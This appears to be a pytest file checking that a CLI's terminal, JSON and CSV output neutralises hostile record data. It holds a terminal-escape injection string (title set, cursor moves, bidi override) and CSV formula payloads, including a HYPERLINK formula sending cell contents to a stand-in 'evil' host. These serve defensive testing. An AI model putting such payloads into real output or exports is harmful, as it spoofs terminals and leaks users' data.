"""What the command line shows of what others wrote, and how it ends up on terminals of all sorts."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import subprocess
import sys
from dataclasses import replace

import pytest
from rich.live import Live
from rich.table import Table
from rich.text import Text

from backoffice.order_history import OrderHistory
from backoffice.order_story import Story
from cli.order_output import show_order
from cli.story import coloured
from ensemble.command_line.connection import sources
from ensemble.command_line.csv_output import as_csv
from ensemble.command_line.errors import Mistake, answer
from ensemble.command_line.output import Sheet, show, show_document, show_json, show_json_line
from ensemble.command_line.output_format import OutputFormat
from ensemble.command_line.rows import dead_letter_document
from ensemble.command_line.selection import control_flow
from ensemble.command_line.streams import console, say, styled, write
from ensemble.command_line.tail import Selection, follow
from ensemble.kafka.records import ReceivedRecord
from ensemble.operations import DeadLetterEntry, Entry, Session, describe_dead_letter
from ensemble.system_messages.dead_letters import EXCEPTION, MESSAGE
from services.app import APP
from tests.unit.cli.test_odd_records import OneBatch

SESSION = Session(APP, None, sources())  # type: ignore[arg-type]  # nothing is read from a cluster here
HOSTILE = "\x1b]0;pwned\x07\x1b[2K\x1b[1A\x9b31mforged\u202e\r\nstill owed: nothing \ud800"
HEADERS = {name: HOSTILE.encode(errors="replace") for name in ("ce_type", "ce_source", "ce_id", EXCEPTION, MESSAGE)}
RECORD = ReceivedRecord(
    "payment.dead-letter", 0, 7, 0, HOSTILE.encode(errors="replace"), b"{junk", HEADERS, tuple(HEADERS.items())
)
ENTRY = Entry(RECORD, "PlaceOrder", "command", {"order_id": HOSTILE, "reason": HOSTILE})
LETTER = DeadLetterEntry(ENTRY)


def assert_harmless(text: str, keep: str = "\n\t") -> None:
    assert all(character.isprintable() or character in keep for character in text), repr(text)
    text.encode()


def test_no_line_of_the_result_steers_the_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    write(f"{HOSTILE} a", "b")
    say(HOSTILE)
    answer(Mistake(HOSTILE))
    out, err = capsys.readouterr()
    assert_harmless(out + err)
    assert len(out.splitlines()) == 2
    assert not any(line.startswith("still owed") for line in err.splitlines())


@pytest.mark.parametrize("output", OutputFormat)
def test_no_command_shows_what_steers(output: OutputFormat, capsys: pytest.CaptureFixture[str]) -> None:
    state = {"status": HOSTILE, "reason": HOSTILE, "seen": [{"at": 1, "type": HOSTILE, "by": HOSTILE}]}
    follow(OneBatch(RECORD), Selection((), True, True, None, None), output=output)  # type: ignore[arg-type]  # a stand-in
    show_order(OrderHistory(HOSTILE, state, [Story(control_flow()).tell(ENTRY)], [ENTRY]), output=output)
    show(Sheet(("key", "note"), [(HOSTILE, HOSTILE)]), [{"key": HOSTILE}], output=output)
    show_document(dead_letter_document(describe_dead_letter(SESSION, LETTER)), output=output)
    out = capsys.readouterr().out
    assert_harmless(out)
    assert not any(line.startswith("still owed") for line in out.splitlines())


def test_json_says_the_same_with_escapes(capsys: pytest.CaptureFixture[str]) -> None:
    show_json({"key": HOSTILE})
    show_json_line({"key": HOSTILE})
    document, line = capsys.readouterr().out.rsplit("\n", 2)[:2]
    assert json.loads(document) == json.loads(line) == {"key": HOSTILE}


def test_lines_of_a_terminal_stay_within_its_width() -> None:
    line = Story(control_flow()).tell(ENTRY)
    assert all(coloured(line, width).cell_len < width for width in (60, 80, 200))
    assert_harmless(coloured(line, 200).plain)


def test_the_console_lets_colours_through_and_nothing_of_a_text() -> None:
    file = io.StringIO()
    terminal, table = console(file=file, force_terminal=True, color_system="standard", width=100), Table()
    table.add_column(Text(HOSTILE))
    table.add_row(Text(HOSTILE, "red"))
    terminal.print(table, Text(HOSTILE), styled((HOSTILE, "bold")), HOSTILE)
    with Live(Text(HOSTILE), console=terminal, auto_refresh=False):
        pass
    shown = file.getvalue()
    assert "\x1b[31m" in shown
    assert not any(sequence in shown for sequence in ("\x1b]", "\x07", "\x1b[1Af", "\x9b", "\u202e", "\ud800"))


@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil/?"&A1,"open")', "+1", "-1", "@SUM(1)", "\t=1", "\r=1"])
def test_the_sheet_of_dead_letters_holds_no_formula(value: str) -> None:
    headers = {EXCEPTION: value.encode(), "ce_type": value.encode()}
    letter = DeadLetterEntry(
        Entry(
            RECORD._replace(key=value.encode(), headers=headers, pairs=tuple(headers.items())),
            "(unreadable)",
            "",
            {},
            "?",
        )
    )
    letter = replace(letter, fate=replace(letter.fate, by=value, why=value))
    (row,) = csv.DictReader(io.StringIO(as_csv([letter])))
    assert not [name for name, cell in row.items() if cell[:1] in {*"=+-@\t\r"} and cell]
    assert row["key"].startswith(("'", "\\"))


@pytest.mark.parametrize("encoding", ["ascii", "iso-8859-1", "utf-8"])
def test_a_report_is_whole_in_every_encoding(encoding: str) -> None:
    script = (
        "from ensemble.command_line.streams import prepare_streams, write, say, console, styled\n"
        "from ensemble.command_line.output import show_json\n"
        "prepare_streams()\n"
        "write('──▶ Grüße ✓ 東京')\n"
        "say('● ready …')\n"
        "console().print(styled('╌╌▶ event'))\n"
        "show_json({'key': 'Grüße'})\n"
    )
    environment = {"PYTHONIOENCODING": encoding, "PYTHONPATH": ":".join(sys.path)}
    result = subprocess.run([sys.executable, "-c", script], capture_output=True, env=environment, check=True)
    out = result.stdout.decode(encoding)
    assert (
        out.splitlines()[0]
        == {
            "ascii": r"--> Gr\xfc\xdfe + \u6771\u4eac",
            "iso-8859-1": r"--> Grüße + \u6771\u4eac",
            "utf-8": "──▶ Grüße ✓ 東京",
        }[encoding]
    )
    assert json.loads(out.partition("{")[1] + out.partition("{")[2]) == {"key": "Grüße"}


@pytest.mark.parametrize("result", ["write('done')", "say('done')", "console().print('done')"])
def test_a_count_does_not_stay_under_what_is_written_next(result: str) -> None:
    """Both streams are one terminal, as they are for a person."""
    code = (
        "from ensemble.command_line.streams import *\n"
        "show_count('reading orders: 20 % of 10 records')\n"
        "show_count('reading orders: 50 %')\n"
        f"{result}"
    )
    terminal, theirs = pty.openpty()
    subprocess.run([sys.executable, "-c", code], stdin=theirs, stdout=theirs, stderr=theirs, check=True)
    os.close(theirs)
    text = b"".join(iter(lambda: read_some(terminal), b"")).decode()
    os.close(terminal)
    screen = ""
    for part in text.replace("\r\n", "\n").split("\r"):
        screen = part + screen[len(part) :]
    assert screen.strip() == "done"


def read_some(terminal: int) -> bytes:
    """Return what a terminal shows next, nothing once all is read: the system hands it over in parts."""
    try:
        return os.read(terminal, 10_000)
    except OSError:  # Linux says so at the end
        return b""
